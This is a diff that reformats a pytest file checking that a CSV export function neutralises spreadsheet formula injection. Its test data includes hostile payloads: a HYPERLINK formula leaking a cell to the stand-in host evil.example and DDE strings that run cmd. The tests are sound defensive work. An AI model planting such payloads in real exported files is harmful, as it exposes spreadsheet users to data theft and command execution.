@@ -10,8 +10,15 @@ from hypothesis import strategies as st
 
 from sendwell import csvfile
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 @pytest.mark.parametrize("value", ATTACKS)
@@ -19,15 +26,21 @@ def test_formula_cells_are_written_as_text(value):
     assert csvfile.neutralise(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["-12", "+3.5", "-1,000.25", "42", "0.5", "ann@example.com", "O'Brien",
-                                   "'quoted'", "", "a=b", "São Paulo"])
+@pytest.mark.parametrize(
+    "value", ["-12", "+3.5", "-1,000.25", "42", "0.5", "ann@example.com", "O'Brien", "'quoted'", "", "a=b", "São Paulo"]
+)
 def test_numbers_and_ordinary_text_are_left_alone(value):
     assert csvfile.neutralise(value) == value
 
 
-@pytest.mark.parametrize("value, written", [("-joe@example.com", "'-joe@example.com"),
-                                            ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
-                                            ("'=already quoted", "''=already quoted")])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("-joe@example.com", "'-joe@example.com"),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+        ("'=already quoted", "''=already quoted"),
+    ],
+)
 def test_the_quote_comes_off_on_import_and_nothing_else(value, written):
     assert csvfile.neutralise(value) == written
     assert csvfile.restore(written) == value
